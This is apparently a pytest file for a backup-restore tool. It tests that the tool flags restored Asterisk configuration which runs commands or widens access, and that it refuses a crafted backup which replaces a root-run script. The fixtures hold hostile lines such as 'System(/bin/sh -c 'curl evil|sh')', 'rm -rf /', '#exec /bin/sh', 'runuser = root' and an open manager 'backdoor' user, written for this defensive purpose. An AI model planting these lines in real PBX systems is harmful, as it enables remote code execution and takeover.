"""Asterisk configuration that runs commands, or decides who runs Asterisk
and who reaches its console and manager, is privileged content from a backup
file (docs/decisions.md "Asterisk configuration that runs commands")."""

from __future__ import annotations

import pytest

from flexgit.restore import commands
from tests.conftest import Env
from tests.restore.crafted import craft, exported

EXT = "system/etc/asterisk/extensions.conf"
LIVE_EXT = b"[from-internal]\nexten => 2001,1,Dial(PJSIP/2001)\n same => n,Hangup()\n"

# Each line, added to a file that lacks it, runs a program or decides who
# does: the dialplan idioms in their several syntaxes and cases.
RUNS = [
    (EXT, "exten => 666,1,System(/bin/sh -c 'curl evil|sh')"),
    (EXT, "exten => 666,1,TrySystem(id)"),
    (EXT, "exten => 666,1,system,id"),  # the old comma syntax, lower case
    (EXT, "exten => 666,n(x),Set(out=${SHELL(id)})"),
    (EXT, "exten => 666,1,Exec(${APP}(${ARGS}))"),
    (EXT, "exten => 666,1,ExecIf($[1]?System(id))"),
    (EXT, "exten => 666,1,Set(x=${EVAL(${y})})"),
    (EXT, "exten => 666,1,Set(x=${EVAL_EXTEN(${EXTEN})})"),
    (EXT, "exten => 666,1,AGI(/tmp/evil.sh)"),
    (EXT, "exten => 666,1,EAGI(evil.agi)"),
    (EXT, "exten => 666,1,ExternalIVR(/bin/sh)"),
    (EXT, "exten => 666,1,MixMonitor(x.wav,b,/bin/rm -rf /)"),
    (EXT, "exten => 666,1,Set(MONITOR_EXEC=/tmp/evil)"),
    (EXT, "#exec /bin/sh -c 'id > /tmp/x'"),
    (EXT, "  #tryexec /bin/id"),
    (EXT, "#include /home/bob/public_html/dial.conf"),
    (EXT, '#include "../../tmp/x.conf"'),
    ("system/etc/asterisk/extensions.ael", "666 => { System(id); };"),
    ("system/etc/asterisk/features.conf", "evil => *6,self,System,id"),
    ("system/etc/asterisk/asterisk.conf", "runuser = root"),
    ("system/etc/asterisk/asterisk.conf", "rungroup=root"),
    ("system/etc/asterisk/asterisk.conf", "execincludes = yes"),
    ("system/etc/asterisk/asterisk.conf", "astmoddir => /tmp/evilmods"),
    ("system/etc/asterisk/asterisk.conf", "astctlpermissions = 0666"),
    ("system/etc/asterisk/asterisk.conf", "astctlowner = bob"),
    ("system/etc/asterisk/asterisk.conf", "live_dangerously = yes"),
    ("system/etc/asterisk/voicemail.conf", "externnotify=/tmp/evil"),
    ("system/etc/asterisk/voicemail.conf", "mailcmd=/tmp/evil -t"),
    ("system/etc/asterisk/musiconhold.conf", "application=/tmp/evil"),
    ("system/etc/asterisk/manager.conf", "write = all"),
    ("system/etc/asterisk/manager.conf", "permit = 0.0.0.0/0.0.0.0"),
    ("system/etc/asterisk/manager_custom.conf", "read=system,command"),
]


@pytest.mark.parametrize(("path", "line"), RUNS)
def test_a_line_that_runs_commands_is_found(path: str, line: str) -> None:
    live = LIVE_EXT if path == EXT else b"[general]\n"
    assert commands.added(path, live + line.encode() + b"\n", live)
    assert commands.added(path, line.encode() + b"\n", None)  # nothing installed


def test_the_same_line_under_a_new_section_is_new() -> None:
    """A live AMI user with write=all does not vouch for a new one."""
    path = "system/etc/asterisk/manager.conf"
    live = b"[admin]\nsecret = x\npermit = 127.0.0.1/255.255.255.255\nwrite = all\n"
    new = live + b"[backdoor]\nsecret = y\npermit = 0.0.0.0/0.0.0.0\nwrite = all\n"
    assert commands.added(path, new, live) == ["permit=", "write="]


def test_lines_the_live_file_has_and_plain_dialplan_are_not_new() -> None:
    live = LIVE_EXT + b"exten => 9,1,System(/usr/local/bin/flexpbx-ok)\n"
    # Moved, re-spaced and re-cased: the same line of the same context.
    edited = b"[from-internal]\nexten => 9,1,system(/usr/local/bin/flexpbx-ok)\n" \
        b"exten  =>  2001,1,Dial(PJSIP/2001,30)\n same => n,Voicemail(2001@default)\n"
    assert commands.added(EXT, edited, live) == []
    # Words that only contain a command word, and permit= outside the manager.
    assert commands.added("system/etc/asterisk/pjsip.conf",
                          b"[2001]\npermit=0.0.0.0/0\nsystemname=x\nagi_thing=1\n", None) == []
    assert commands.added("home/public_html/x.conf", b"#exec /bin/sh\n", None) == []


@pytest.mark.parametrize(("name", "live", "new"), [
    ("extensions.lua", b"extensions = {}\n", b'os.execute("id")\nextensions = {}\n'),
    ("modules.conf", b"[modules]\nautoload=yes\nnoload => app_system.so\n",
     b"[modules]\nautoload=yes\n"),
    ("logger.conf", b"[logfiles]\nmessages => notice\n",
     b"[logfiles]\nmessages => notice\n/etc/cron.d/x => debug\n"),
    ("manager.conf", b"[a]\ndeny=0.0.0.0/0.0.0.0\npermit=127.0.0.1/255.255.255.255\n",
     b"[a]\npermit=127.0.0.1/255.255.255.255\n"),
    ("http.conf", b"[general]\n", b"[general]\n[post_mappings]\nx = /etc/cron.d\n"),
])
def test_any_change_to_a_file_that_decides_what_runs(name: str, live: bytes,
                                                     new: bytes) -> None:
    path = "system/etc/asterisk/" + name
    assert commands.added(path, new, live)
    assert commands.added(path, live, live) == []


def test_a_program_the_live_configuration_starts_is_privileged(env: Env) -> None:
    """Replacing the script a live `System()` runs is as good as a new
    System() line: the script is reviewed like a root helper."""
    script = env.root / "etc/asterisk/scripts/notify.sh"
    script.parent.mkdir()
    script.write_bytes(b"#!/bin/sh\nlogger voicemail\n")
    script.chmod(0o755)
    ext = env.root / "etc/asterisk/extensions.conf"
    ext.write_bytes(ext.read_bytes() + b"[notify]\nexten => s,1,System(/etc/asterisk/scripts/"
                    b"notify.sh ${ARG1})\n")
    bad = craft(exported(env, env.tmp / "out"), env.tmp / "script.flx",
                files={"system/etc/asterisk/scripts/notify.sh": b"#!/bin/sh\ncurl evil | sh\n"})
    r = env.run("-y", "restore", str(bad))
    assert r.exit_code == 3, r.output
    assert script.read_bytes() == b"#!/bin/sh\nlogger voicemail\n"
    assert "warning: system/etc/asterisk/scripts/notify.sh was not restored: a file root runs " \
        "that flexgit did not write" in r.output
